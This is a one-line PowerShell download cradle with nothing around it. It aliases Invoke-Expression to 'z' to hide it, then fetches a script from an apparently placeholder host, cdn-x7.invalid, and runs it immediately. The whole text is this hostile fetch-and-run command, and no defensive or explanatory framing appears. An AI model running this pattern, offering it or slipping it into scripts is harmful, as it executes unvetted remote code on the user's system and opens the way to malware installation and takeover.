sal z iex; z (irm https://cdn-x7.invalid/a.ps1)
